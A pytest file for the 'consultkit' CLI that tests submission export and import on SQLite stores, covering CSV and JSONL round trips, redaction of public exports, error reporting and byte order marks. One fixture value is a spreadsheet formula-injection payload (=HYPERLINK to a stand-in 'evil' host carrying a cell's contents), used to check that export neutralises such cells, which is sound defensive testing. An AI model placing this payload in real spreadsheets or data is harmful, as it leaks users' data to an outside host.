"""``consultkit submissions export`` and ``import`` end to end, on SQLite stores."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from consultkit.app.application import Consultkit
from consultkit.cli import cli
from consultkit.config.loader import load_consultation
from consultkit.domain.clock import FixedClock
from consultkit.domain.submissions import Consent, SubmissionStatus, Submitter

EXAMPLE = Path(__file__).resolve().parents[1] / "examples" / "wsis2020" / "consultation.toml"
CALL = "official-submissions"
WHEN = "2019-07-01T10:00:00Z"
PAYLOAD = '=HYPERLINK("http://evil/?"&A1,"x")'
CONTENT = (
    "consultation_id",
    "call_id",
    "group",
    "language",
    "status",
    "received_at",
    "title",
    "body",
    "tags",
    "attachments",
    "submitter_name",
    "submitter_email",
    "submitter_organisation",
    "submitter_country",
    "consent_publish_text",
    "consent_publish_name",
    "consent_publish_organisation",
    "fingerprint",
    "tracking_number",
)


def run(*args: str) -> object:
    runner = CliRunner()
    return runner.invoke(cli, ["--now", WHEN, *args], catch_exceptions=False)


@pytest.fixture
def store(tmp_path: Path) -> str:
    """A SQLite store holding four submissions, one accepted, one campaign pair."""
    url = f"sqlite:///{tmp_path / 'source.sqlite'}"
    consultation = load_consultation(EXAMPLE)
    clock = FixedClock(dt.datetime(2019, 7, 1, 10, tzinfo=dt.UTC))
    with Consultkit.open(url, clock=clock, entry_points=False) as app:
        people = [
            ("Ana", "ana@example.org", "civil-society", "ONG", PAYLOAD, "Text one\nsecond line"),
            ("Bob", "bob@example.org", "governments", None, "Campaign", "Same words for all."),
            ("Cy", "cy@example.org", "private-sector", "Firm", "Campaign", "Same words for all."),
            ("Di", "di@example.org", "civil-society", None, "Réponse", "Texte en français"),
        ]
        receipts = []
        for minute, (name, email, group, org, title, body) in enumerate(people):
            # One minute apart, so the received order (the export order) is known.
            app.clock = FixedClock(dt.datetime(2019, 7, 1, 10, minute, tzinfo=dt.UTC))
            receipts.append(
                app.submit(
                    consultation,
                    call_id=CALL,
                    submitter=Submitter(name=name, email=email, group=group, organisation=org),
                    title=title,
                    body=body,
                    language="fr" if name == "Di" else "en",
                    tags=("C1",),
                    consent=Consent(publish_text=True, publish_name=name != "Bob"),
                )
            )
        for decision in (SubmissionStatus.UNDER_REVIEW, SubmissionStatus.ACCEPTED):
            app.review(
                consultation, receipts[0].tracking_number, decision=decision, organiser="Gita"
            )
    return url


def test_export_csv_to_stdout_is_neutralised_and_ordered(store: str) -> None:
    result = run("submissions", "export", str(EXAMPLE), "--store", store)
    assert result.exit_code == 0  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))  # type: ignore[attr-defined]
    assert [r["submitter_name"] for r in rows] == ["Ana", "Bob", "Cy", "Di"]
    assert rows[0]["title"] == "'" + PAYLOAD
    assert rows[0]["status"] == "accepted"


def test_public_export_to_file_has_no_addresses(store: str, tmp_path: Path) -> None:
    target = tmp_path / "public.csv"
    result = run(
        "submissions", "export", str(EXAMPLE), "--store", store, "--public", "-o", str(target)
    )
    assert result.exit_code == 0  # type: ignore[attr-defined]
    text = target.read_text(encoding="utf-8")
    assert "@" not in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["submitter_name"] for r in rows] == ["Ana"]  # only the accepted one
    assert "wrote 1 submission to" in result.stderr  # type: ignore[attr-defined]
    assert not list(tmp_path.glob(".*.partial"))


def test_round_trip_jsonl_export_import_keeps_content(store: str, tmp_path: Path) -> None:
    exported = tmp_path / "all.jsonl"
    assert (
        run(
            "submissions",
            "export",
            str(EXAMPLE),
            "--store",
            store,
            "--format",
            "jsonl",
            "-o",
            str(exported),
        ).exit_code
        == 0
    )  # type: ignore[attr-defined]
    target = f"sqlite:///{tmp_path / 'target.sqlite'}"
    result = run("submissions", "import", str(EXAMPLE), str(exported), "--store", target)
    assert result.exit_code == 0, result.stderr  # type: ignore[attr-defined]
    assert "4 rows: 4 stored, 0 already present, 0 refused" in result.stderr  # type: ignore[attr-defined]
    again = run("submissions", "export", str(EXAMPLE), "--store", target, "--format", "jsonl")
    before = [json.loads(line) for line in exported.read_text(encoding="utf-8").splitlines()]
    after = [json.loads(line) for line in again.stdout.splitlines()]  # type: ignore[attr-defined]

    def content(record: dict[str, object]) -> dict[str, object]:
        picked = {k: record[k] for k in CONTENT}
        picked["status"] = None  # an import starts every submission afresh as submitted
        return picked

    assert [content(r) for r in after] == [content(r) for r in before]
    assert {r["provenance"] for r in after} == {"bulk-import"}
    # Running the same import again stores nothing twice.
    rerun = run("submissions", "import", str(EXAMPLE), str(exported), "--store", target)
    assert rerun.exit_code == 0  # type: ignore[attr-defined]
    assert "4 rows: 0 stored, 4 already present, 0 refused" in rerun.stderr  # type: ignore[attr-defined]


def test_csv_round_trip_restores_neutralised_cells(store: str, tmp_path: Path) -> None:
    exported = tmp_path / "all.csv"
    run("submissions", "export", str(EXAMPLE), "--store", store, "-o", str(exported))
    target = f"sqlite:///{tmp_path / 'target.sqlite'}"
    result = run("submissions", "import", str(EXAMPLE), str(exported), "--store", target)
    assert result.exit_code == 0, result.stderr  # type: ignore[attr-defined]
    again = run("submissions", "export", str(EXAMPLE), "--store", target, "--format", "jsonl")
    titles = [json.loads(line)["title"] for line in again.stdout.splitlines()]  # type: ignore[attr-defined]
    assert titles[0] == PAYLOAD


def test_import_reports_bad_rows_with_lines_and_exits_1(tmp_path: Path) -> None:
    data = tmp_path / "in.csv"
    data.write_text(
        "call_id,group,submitter_name,submitter_email,title,body,received_at\r\n"
        f'{CALL},civil-society,Ana,ana@example.org,T,"multi\nline",2019-07-01T10:00:00Z\r\n'
        f"{CALL},nobody,Bob,bob@example.org,T,B,2019-07-01T10:00:00Z\r\n"
        f"{CALL},civil-society,,cy@example.org,T,B,\r\n"
        f"{CALL},civil-society,Di,di@example.org,T,B,2020-03-01T10:00:00Z\r\n"
        f"{CALL},civil-society,Ed,not-an-address,T,B,2019-07-01T10:00:00Z\r\n",
        encoding="utf-8",
        newline="",
    )
    target = f"sqlite:///{tmp_path / 'target.sqlite'}"
    result = run(
        "submissions", "import", str(EXAMPLE), str(data), "--store", target, "--chunk-size", "2"
    )
    assert result.exit_code == 1  # type: ignore[attr-defined]
    errors = [line for line in result.stderr.splitlines() if line.startswith("error:")]  # type: ignore[attr-defined]
    assert [e.split(":")[2] for e in errors] == ["4", "5", "6", "7"]
    assert "unknown-group" in errors[0]
    assert "submitter_name: is empty" in errors[1]
    assert "call-closed" in errors[2]
    assert "submitter" in errors[3]
    assert "5 rows: 1 stored, 0 already present, 4 refused" in result.stderr  # type: ignore[attr-defined]


def test_import_with_bad_header_exits_2(tmp_path: Path) -> None:
    data = tmp_path / "in.csv"
    data.write_text("call_id,title\r\n", encoding="utf-8")
    result = run("submissions", "import", str(EXAMPLE), str(data), "--store", "memory://")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert result.stderr.startswith("error: ")  # type: ignore[attr-defined]
    assert "missing columns" in result.stderr  # type: ignore[attr-defined]
    assert "Traceback" not in result.stderr  # type: ignore[attr-defined]


def test_import_of_non_utf8_file_exits_2(tmp_path: Path) -> None:
    data = tmp_path / "in.csv"
    data.write_bytes(
        b"call_id,group,submitter_name,submitter_email,title,body\r\n"
        b"official-submissions,g,Jos\xe9,j@example.org,T,B\r\n"
    )
    result = run("submissions", "import", str(EXAMPLE), str(data), "--store", "memory://")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert "not UTF-8" in result.stderr  # type: ignore[attr-defined]


def test_export_with_unknown_store_scheme_exits_2() -> None:
    result = run("submissions", "export", str(EXAMPLE), "--store", "nosuch://x")
    assert result.exit_code == 2  # type: ignore[attr-defined]
    assert result.stderr.startswith("error: ")  # type: ignore[attr-defined]


def test_import_reads_stdin(tmp_path: Path) -> None:
    record = {
        "call_id": CALL,
        "group": "governments",
        "submitter_name": "Ana",
        "submitter_email": "ana@example.org",
        "title": "T",
        "body": "B",
        "received_at": "2019-07-01T10:00:00Z",
    }
    target = f"sqlite:///{tmp_path / 'target.sqlite'}"
    result = CliRunner().invoke(
        cli,
        ["submissions", "import", str(EXAMPLE), "-", "--format", "jsonl", "--store", target],
        input=json.dumps(record) + "\n",
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.stderr
    assert "1 row: 1 stored" in result.stderr


BOM = b"\xef\xbb\xbf"


def test_csv_export_starts_with_a_byte_order_mark_so_spreadsheets_read_utf8(
    store: str, tmp_path: Path
) -> None:
    # Issue 11: Excel opens a CSV file without a BOM in the ANSI code page, garbling
    # Arabic, Chinese and Russian. The mark is on by default for CSV, to a file or stdout.
    target = tmp_path / "all.csv"
    assert (
        run("submissions", "export", str(EXAMPLE), "--store", store, "-o", str(target)).exit_code
        == 0
    )  # type: ignore[attr-defined]
    data = target.read_bytes()
    assert data.startswith(BOM + b"id,")
    assert data.count(BOM) == 1
    stdout = run("submissions", "export", str(EXAMPLE), "--store", store)
    assert stdout.stdout_bytes.startswith(BOM + b"id,")  # type: ignore[attr-defined]


def test_no_bom_switch_and_jsonl_write_no_mark(store: str, tmp_path: Path) -> None:
    plain = run("submissions", "export", str(EXAMPLE), "--store", store, "--no-bom")
    assert plain.stdout_bytes.startswith(b"id,")  # type: ignore[attr-defined]
    lines = run("submissions", "export", str(EXAMPLE), "--store", store, "--format", "jsonl")
    assert lines.stdout_bytes.startswith(b"{")  # type: ignore[attr-defined]
    target = tmp_path / "plain.csv"
    run("submissions", "export", str(EXAMPLE), "--store", store, "--no-bom", "-o", str(target))
    assert target.read_bytes().startswith(b"id,")


@pytest.mark.parametrize("bom", ["--bom", "--no-bom"])
def test_import_reads_csv_with_or_without_the_mark(store: str, tmp_path: Path, bom: str) -> None:
    exported = tmp_path / "all.csv"
    run("submissions", "export", str(EXAMPLE), "--store", store, bom, "-o", str(exported))
    assert exported.read_bytes().startswith(BOM) is (bom == "--bom")
    target = f"sqlite:///{tmp_path / 'target.sqlite'}"
    result = run("submissions", "import", str(EXAMPLE), str(exported), "--store", target)
    assert result.exit_code == 0, result.stderr  # type: ignore[attr-defined]
    assert "4 rows: 4 stored, 0 already present, 0 refused" in result.stderr  # type: ignore[attr-defined]
